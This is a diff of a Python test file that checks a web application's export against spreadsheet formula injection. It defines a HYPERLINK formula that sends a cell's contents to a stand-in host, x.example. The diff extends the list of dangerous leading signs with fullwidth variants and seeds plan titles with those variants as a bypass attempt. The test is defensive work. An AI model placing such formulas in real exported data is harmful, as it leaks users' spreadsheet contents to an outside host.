@@ -16,7 +16,7 @@ from tests.web.world import World
 
 pytestmark = pytest.mark.sqlite_alone  # what a page answers does not depend on the engine
 FORMULA = '=HYPERLINK("http://x.example/?"&A1;"open")'
-SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")
+SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
 NUMBER = re.compile(r"-?\d[\d.]*")
 
 
@@ -26,7 +26,7 @@ def hostile(world: World) -> World:
     words = {"en": FORMULA, "id": f"@{FORMULA}"}
     with transaction.atomic():
         for plan in Plan.objects.all():
-            pen().change(plan, title=words)
+            pen().change(plan, title={"en": f"＝{FORMULA}", "id": f"＠{FORMULA}"})
         for actor in Actor.objects.filter(code__startswith="X-"):
             pen().change(actor, name=words)
     return world
